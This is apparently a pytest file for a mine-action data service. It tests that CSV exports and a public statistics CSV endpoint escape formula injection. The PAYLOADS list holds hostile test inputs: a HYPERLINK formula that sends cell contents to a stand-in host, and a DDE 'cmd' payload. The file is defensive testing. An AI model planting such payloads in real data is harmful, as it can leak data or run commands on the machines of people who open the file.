"""CSV formula injection (issue 15, 14): a cell starting with =, +, -, @ is run as a
formula when a CSV export or the public statistics CSV is opened in a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

from api_helpers import Api
from shapely.geometry import Point

from mineaction.domain.models import Accident, AdminArea, Victim
from mineaction.io.export import export_records
from mineaction.io.readers import read_table
from mineaction.store import Query

PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"ver")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,1)", "\t=1", "'=already quoted"]


def test_csv_exports_neutralise_formulas_and_read_back(api: Api, tmp_path: Path) -> None:
    store = api.services.store
    for i, text in enumerate(PAYLOADS):
        store.add(Accident(geometry=Point(-75.1 - i / 100, 6.1), status="approved",
                           place_name=text, accident_kind="mine", external_id=f"e{i}",
                           dataset="d"))
    out = tmp_path / "accidents.csv"
    export_records(store, out, Query(kind="accident", limit=None))
    with open(out, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    for row in rows:
        assert not row["place_name"].startswith(("=", "+", "-", "@", "\t")), row
        assert not row["longitude"].startswith("'")  # numbers stay numbers
    back = read_table(out).sort_values("external_id")
    stored = [a.place_name for a in store.query(Query(kind="accident", limit=None)).items]
    assert list(back["place_name"]) == stored  # our reader gives each text back


def test_public_statistics_csv_neutralises_formulas(api: Api) -> None:
    store = api.services.store
    store.add(AdminArea(pcode="=1+1", name="=cmd", level=1, status="approved"))
    acc = store.add(Accident(geometry=Point(-75.1, 6.1), status="approved",
                             accident_date=date(2020, 5, 1), admin_area_pcode="=1+1"))
    for _ in range(6):
        store.add(Victim(accident_id=acc.id, outcome="killed", status="approved"))
    text = api.public.get("/api/v1/stats/casualties", params={"by": "admin-area",
                                                              "f": "csv"}).text
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'=1+1" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
